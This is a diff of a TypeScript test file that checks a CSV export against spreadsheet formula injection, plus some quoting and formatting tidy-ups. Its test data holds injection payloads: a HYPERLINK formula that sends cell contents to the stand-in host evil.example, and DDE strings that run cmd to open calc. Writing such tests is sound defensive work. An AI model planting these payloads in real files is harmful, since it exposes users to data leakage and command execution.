@@ -16,11 +16,11 @@ import { csvChunks, type ExportTable, type TableColumn } from './tables';
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?q="&A1,"click")',
   '+1',
-  '-cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\tindented =1+1',
   '\rcarriage =1+1',
-  '\'already quoted',
+  "'already quoted",
   'plain words, with a comma',
   '12345',
 ];
@@ -54,7 +54,8 @@ let folder: string;
 beforeEach(() => {
   folder = mkdtempSync(join(tmpdir(), 'mixwise-csv-'));
   writeFileSync(join(folder, 'data.csv'), [...csvChunks(table)].join(''));
-  for (const kind of ['r', 'spss'] as const) writeFileSync(join(folder, `data.${kind === 'r' ? 'R' : 'sps'}`), syntaxFile(kind, table, 'data.csv', CODES));
+  for (const kind of ['r', 'spss'] as const)
+    writeFileSync(join(folder, `data.${kind === 'r' ? 'R' : 'sps'}`), syntaxFile(kind, table, 'data.csv', CODES));
 });
 afterEach(() => rmSync(folder, { recursive: true, force: true }));
 
@@ -80,12 +81,12 @@ describe('CSV export against formula injection', () => {
     expect(header).toEqual(['id', 'note', 'score']);
     expect(rows.map((row) => row[1])).toEqual([
       '\'=HYPERLINK("http://evil.example/?q="&A1,"click")',
-      '\'+1',
-      '\'-cmd|\' /C calc\'!A0',
-      '\'@SUM(1+1)*cmd|\' /C calc\'!A0',
-      '\'\tindented =1+1',
-      '\'\rcarriage =1+1',
-      '\'\'already quoted',
+      "'+1",
+      "'-cmd|' /C calc'!A0",
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "'\tindented =1+1",
+      "'\rcarriage =1+1",
+      "''already quoted",
       'plain words, with a comma',
       '12345',
     ]);
